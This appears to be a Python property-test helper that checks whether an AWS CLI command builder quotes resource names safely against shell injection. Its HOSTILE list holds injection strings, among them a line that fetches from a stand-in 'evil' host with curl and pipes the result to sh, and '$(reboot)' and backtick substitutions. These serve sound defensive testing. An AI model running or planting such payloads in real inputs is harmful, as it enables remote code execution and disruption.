"""Names as AWS lets them be, and the words of commands that hold them."""

from __future__ import annotations

import argparse
import re
import shlex
from typing import Final

from hypothesis import strategies as st

from vended_logs.policy.grant import Scope
from vended_logs_tools.diagnosis.examination import Examination

SCOPE: Final = Scope("aws", "eu-west-1", "123456789012")
PLACE: Final = ("--region", "eu-west-1", "--profile", "it's {place}")
HERE: Final = Examination(scope=SCOPE, place=shlex.join(PLACE))
HOSTILE: Final = (
    "/x;curl${IFS}evil|sh;/",
    "$(reboot)",
    "`reboot`",
    "a b",
    "it's",
    "' {place} '",
    '" {place} "',
    "{place}",
    "-x",
    "--profile",
    "a\\",
    "&& true #",
    "!!",
    "~",
    "*",
    "\n{place}\n",
    "",
)
names: Final = st.sampled_from(HOSTILE) | st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"))


def words(text: str) -> list[str]:
    """Return a command of this place as a shell splits it; outside of quotes nothing is left for it to obey."""
    found = HERE.command(text)
    assert re.fullmatch(r"[\w@%+=:,./ >-]*", re.sub(r"""'[^']*'|"'\"""", "", found), re.ASCII), found
    return shlex.split(found)


def options(text: str, verb: str, *, file: str = "", flags: tuple[str, ...] = ()) -> dict[str, str]:
    """Return the options of a command as the AWS CLI takes them; it has no other words, and goes to the place."""
    split = words(text)
    if file:
        assert split[-2:] == [">", file]
        split = split[:-2]
    assert split[-len(PLACE) :] == list(PLACE)
    assert split[:3] == ["aws", *verb.split()]
    parser = argparse.ArgumentParser(allow_abbrev=False, exit_on_error=False)
    given_names = {one.partition("=")[0] for one in split[3 : -len(PLACE)] if one.startswith("--")} - set(flags)
    for name in given_names:
        parser.add_argument(name, dest=name.removeprefix("--"), required=True)
    for flag in flags:
        parser.add_argument(flag, dest=flag.removeprefix("--"), action="store_const", const="", required=True)
    return dict(vars(parser.parse_args(split[3 : -len(PLACE)])))
